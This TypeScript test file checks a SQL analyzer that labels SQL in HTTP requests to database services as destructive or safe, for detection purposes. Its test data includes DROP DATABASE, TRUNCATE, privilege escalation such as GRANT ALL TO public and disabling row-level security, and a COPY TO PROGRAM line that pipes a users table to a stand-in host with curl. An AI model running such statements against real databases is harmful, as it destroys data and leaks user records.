// SQL over HTTP: found in the documented request shapes, parsed by the real PostgreSQL parser,
// and classified the way the database will run it (comments, case, quoting, CTEs, batches).
import t from 'tap';
import { loadAdapters, recognize } from '../../describe/adapters/index.ts';
import { analyzeSql } from '../../describe/adapters/sql.ts';
import { requestOf } from './helpers.ts';

await loadAdapters();

const sql = (text: string) => analyzeSql([text]).info;

t.test('destructive statements', async (t) => {
  const destructive: Array<[string, string, string[]?]> = [
    ['DROP TABLE users', 'drop_table', ['users']],
    ['drop table if exists public."Users" cascade', 'drop_table', ['public.Users']],
    ['DROP SCHEMA app CASCADE', 'drop_schema'],
    ['DROP DATABASE prod', 'drop_database'],
    ['DROP INDEX idx_a', 'drop_index', ['idx_a']],
    ['DROP ROLE bob', 'drop_role'],
    ['TRUNCATE a, b.c', 'truncate', ['a', 'b.c']],
    ['ALTER TABLE users DROP COLUMN email', 'alter_table', ['users']],
    ['alter table users drop constraint users_pkey', 'alter_table'],
    ['DELETE FROM users', 'delete', ['users']],
    ['delete from users where true', 'delete'],
    ['DELETE FROM users WHERE 1 = 1', 'delete'],
    ['DELETE FROM users WHERE $1 = $1', 'delete'],
    ['UPDATE users SET admin = true', 'update', ['users']],
    ['GRANT ALL ON users TO public', 'grant', ['users']],
    ['REVOKE SELECT ON users FROM app', 'revoke'],
    ['GRANT admin TO eve', 'grant_role'],
    ['ALTER TABLE profiles DISABLE ROW LEVEL SECURITY', 'alter_table', ['profiles']],
    ['alter table profiles no force row level security', 'alter_table'],
    ['ALTER TABLE profiles OWNER TO anon', 'alter_table'],
    ['ALTER TABLE audit DISABLE TRIGGER ALL', 'alter_table'],
    ['CREATE POLICY everyone ON profiles USING (true)', 'create_policy'],
    ['ALTER POLICY p ON profiles USING (true)', 'alter_policy'],
    ['ALTER FUNCTION f() SECURITY DEFINER', 'alter_function'],
    ['ALTER ROLE app SUPERUSER', 'alter_role'],
    ['CREATE ROLE x LOGIN PASSWORD \'p\'', 'create_role'],
    ['DO $$ BEGIN EXECUTE \'DROP TABLE users\'; END $$', 'do'],
    ['COPY users TO PROGRAM \'curl -d @- evil.example\'', 'copy', ['users']],
    ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'select'],
    ['CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; END $$', 'create_function'],
    ['EXPLAIN ANALYZE DELETE FROM users', 'explain', ['users']],
    ['WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone', 'select', ['users']],
    ['CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM users', 'create_rule'],
  ];
  for (const [text, kind, tables] of destructive) {
    const info = sql(text);
    t.equal(info.parsed, true, `${text}: parsed`);
    t.equal(info.destructive, true, `${text}: destructive`);
    t.equal(info.statements[0]?.kind, kind, `${text}: kind`);
    t.equal(info.statements[0]?.destructive, true, `${text}: statement destructive`);
    if (tables) t.same(info.statements[0]?.tables, tables, `${text}: tables`);
  }
});

t.test('privilege changes: the SQL endpoint effect is admin, not delete', async (t) => {
  for (const q of ['GRANT ALL ON users TO public', 'ALTER TABLE profiles DISABLE ROW LEVEL SECURITY', 'ALTER ROLE app SUPERUSER', 'CREATE POLICY p ON t USING (true)']) {
    t.equal(analyzeSql([q]).privilegeOnly, true, q);
  }
  t.equal(analyzeSql(['GRANT ALL ON users TO public; DROP TABLE users']).privilegeOnly, false, 'a drop among them deletes');
  t.equal(sql('ALTER TABLE profiles ENABLE ROW LEVEL SECURITY').destructive, false, 'tightening access is no privilege change');
  t.equal(sql('CREATE POLICY p ON t AS RESTRICTIVE USING (owner = current_user)').destructive, false, 'a restrictive policy only narrows');
});

t.test('non-destructive statements', async (t) => {
  const safe: Array<[string, string, boolean, string[]?]> = [
    ['SELECT * FROM users WHERE id = 1', 'select', true, ['users']],
    ['select u.id from public.users u join orders o on o.user_id = u.id', 'select', true, ['public.users', 'orders']],
    ['SELECT count(*), max(created_at) FROM "Orders"', 'select', true, ['Orders']],
    ['WITH recent AS (SELECT * FROM events) SELECT * FROM recent', 'select', true, ['events']],
    ['EXPLAIN SELECT 1', 'explain', true],
    ['SHOW search_path', 'show', true],
    ['DELETE FROM users WHERE id = 7', 'delete', false, ['users']],
    ['UPDATE users SET name = $1 WHERE id = $2', 'update', false],
    ['UPDATE users SET n = 1 WHERE id IN (SELECT id FROM banned)', 'update', false, ['users', 'banned']],
    ['INSERT INTO audit (msg) VALUES (\'x\')', 'insert', false, ['audit']],
    ['CREATE TABLE t (id int)', 'create_table', false, ['t']],
    ['ALTER TABLE t ADD COLUMN c int', 'alter_table', false],
    ['SELECT * FROM users FOR UPDATE', 'select', false],
    ['SELECT my_function()', 'select', false],
    ['SELECT * INTO backup FROM users', 'select_into', false],
    ['CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT a + b; END', 'create_function', false],
  ];
  for (const [text, kind, readOnly, tables] of safe) {
    const a = analyzeSql([text]);
    t.equal(a.info.parsed, true, `${text}: parsed`);
    t.equal(a.info.destructive, false, `${text}: not destructive`);
    t.equal(a.info.statements[0]?.kind, kind, `${text}: kind`);
    t.equal(a.readOnly, readOnly, `${text}: read-only`);
    if (tables) t.same(a.info.statements[0]?.tables, tables, `${text}: tables`);
  }
});

t.test('comments, case, several statements and statement text', async (t) => {
  const info = sql('-- harmless\nSELECT 1; /* and then */ dRoP   TaBlE "Users";\nselect 2 -- trailing');
  t.equal(info.destructive, true);
  t.same(info.statements.map((s) => [s.kind, s.destructive]), [['select', false], ['drop_table', true], ['select', false]]);
  t.same(info.statements[1]!.tables, ['Users'], 'quoted identifiers keep their case');
  t.equal(info.statements[1]!.text, 'dRoP   TaBlE "Users"', 'statement text excludes the comment before it');
  t.equal(sql("SELECT '; DROP TABLE users; --'").destructive, false, 'SQL inside a string literal is data');
  t.equal(sql('SELECT 1 -- ; DROP TABLE users').destructive, false, 'SQL inside a comment is not run');
  t.equal(sql('/* only a comment */').statements.length, 0);
  const multi = analyzeSql(['SELECT 1', 'TRUNCATE logs']);
  t.same(multi.info.statements.map((s) => s.kind), ['select', 'truncate']);
  t.equal(sql('SELECT \'ünïcødé\'; DELETE FROM t').statements[1]!.text, 'DELETE FROM t', 'byte offsets map to text with multi-byte characters');
});

t.test('unparseable SQL is reported, and destructive', async (t) => {
  for (const text of ['DROP TABEL users', 'SELEC 1', 'SELECT 1; DELETE FROM', '\u0000', 'DROP TABLE users; this is not sql']) {
    const info = sql(text);
    t.equal(info.parsed, false, `${JSON.stringify(text)}: not parsed`);
    t.equal(info.destructive, true, `${JSON.stringify(text)}: treated as destructive`);
    t.ok(info.error && info.error.length > 0, `${JSON.stringify(text)}: error says why`);
  }
  t.match(sql('DROP TABEL users').error, /syntax error at or near "TABEL" \(at character 6\)/);
  const deep = `SELECT ${'('.repeat(5000)}1${')'.repeat(5000)}`;
  t.doesNotThrow(() => sql(deep), 'deeply nested SQL does not crash the analysis');
});

t.test('where SQL is found in requests', async (t) => {
  const cases: Array<[Parameters<typeof requestOf>[0], string | undefined, boolean | undefined]> = [
    [{ method: 'POST', url: 'https://abcd.supabase.co/pg/query', json: { query: 'DROP TABLE users' } }, 'sql.query:delete', true],
    [{ method: 'POST', url: 'https://abcd.supabase.co/pg/query', json: { query: 'select * from users' } }, 'sql.query:read', false],
    [{ method: 'POST', url: 'https://abcd.supabase.co/pg/query', json: { query: 'insert into t values (1)' } }, 'sql.query:write', false],
    [{ method: 'POST', url: 'https://api.supabase.com/v1/projects/abcd/database/query', json: { query: 'TRUNCATE t' } }, 'database.query:delete', true],
    [{ method: 'POST', url: 'https://abcd.supabase.co/rest/v1/rpc/exec_sql', json: { sql: 'drop table t' } }, 'rpc.call:write', true],
    [{ method: 'POST', url: 'https://abcd.supabase.co/rest/v1/rpc/add_points', json: { user_id: 1 } }, 'rpc.call:write', undefined],
    [{ method: 'POST', url: 'https://ep-cool-1.us-east-2.aws.neon.tech/sql', json: { query: 'DELETE FROM t WHERE id = $1', params: [1] } }, 'sql.query:write', false],
    [{ method: 'POST', url: 'https://ep-cool-1.us-east-2.aws.neon.tech/sql', json: { queries: [{ query: 'select 1' }, { query: 'drop table t' }] } }, 'sql.query:delete', true],
    [{ method: 'POST', url: 'https://api.cloudflare.com/client/v4/accounts/a/d1/database/d/query', json: { sql: 'DELETE FROM t', params: [] } }, 'd1.database.query:delete', true],
    [{ method: 'POST', url: 'https://db.example.com/v1/sql', json: { sql: 'TRUNCATE a' } }, undefined, true],
    [{ method: 'POST', url: 'https://db.example.com/query', json: { query: 'select 1' } }, undefined, false],
    [{ method: 'POST', url: 'https://db.example.com/graphql', json: { query: '{ users { id } }' } }, undefined, undefined],
    [{ method: 'POST', url: 'https://db.example.com/api/graphql/query', json: { query: '{ users { id } }' } }, undefined, undefined],
    [{ method: 'POST', url: 'https://search.example.com/search', json: { query: 'cats' } }, undefined, undefined],
    [{ method: 'POST', url: 'https://db.example.com/run', text: 'DROP TABLE x', contentType: 'application/sql' }, undefined, true],
  ];
  for (const [req, want, destructive] of cases) {
    const r = recognize(requestOf(req));
    const label = `${req.method} ${req.url} ${JSON.stringify(req.json ?? req.text)}`;
    t.equal(r.service && `${r.service.operation}:${r.service.effect}`, want, label);
    t.equal(r.sql?.destructive, destructive, `${label}: sql.destructive`);
  }
});

t.test('an SQL endpoint whose SQL cannot be seen fails closed', async (t) => {
  const trunc = recognize(requestOf({ method: 'POST', url: 'https://abcd.supabase.co/pg/query', json: { query: 'select 1' }, truncated: true }));
  t.match(trunc.sql, { parsed: false, destructive: true, error: /capture limit/ });
  const missing = recognize(requestOf({ method: 'POST', url: 'https://abcd.supabase.co/pg/query', json: { q: 'select 1' } }));
  t.match(missing.sql, { parsed: false, destructive: true, error: /no SQL/ });
  t.equal(missing.service?.effect, 'delete');
  const notJson = recognize(requestOf({ method: 'POST', url: 'https://abcd.supabase.co/pg/query', text: 'select 1' }));
  t.match(notJson.sql, { parsed: false, error: /not JSON/ });
  const huge = analyzeSql([`SELECT '${'x'.repeat(1024 * 1024)}'`]).info;
  t.match(huge, { parsed: false, destructive: true, error: /longer than/ });
});
